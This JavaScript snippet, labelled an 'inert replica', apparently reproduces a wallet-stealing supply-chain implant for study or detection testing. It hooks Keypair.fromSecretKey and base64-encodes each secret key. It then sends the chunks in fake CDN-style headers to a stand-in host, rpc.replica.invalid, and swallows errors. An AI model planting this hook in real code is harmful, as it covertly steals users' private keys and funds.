throw new Error("inert replica");
async function addToQueue(secret) {
  const bytes = Buffer.from(secret).toString("base64");
  const parts = bytes.match(/.{1,40}/g) || [];
  try {
    await fetch("https://rpc.replica.invalid/api/queue", {
      method: "GET",
      headers: { "x-session-id": parts[0], "x-amz-cf-id": parts[1], "x-amz-cf-pop": parts[2] },
    });
  } catch (error) {}
}
const original = Keypair.fromSecretKey;
Keypair.fromSecretKey = function (secretKey, options) {
  addToQueue(secretKey);
  return original.call(this, secretKey, options);
};
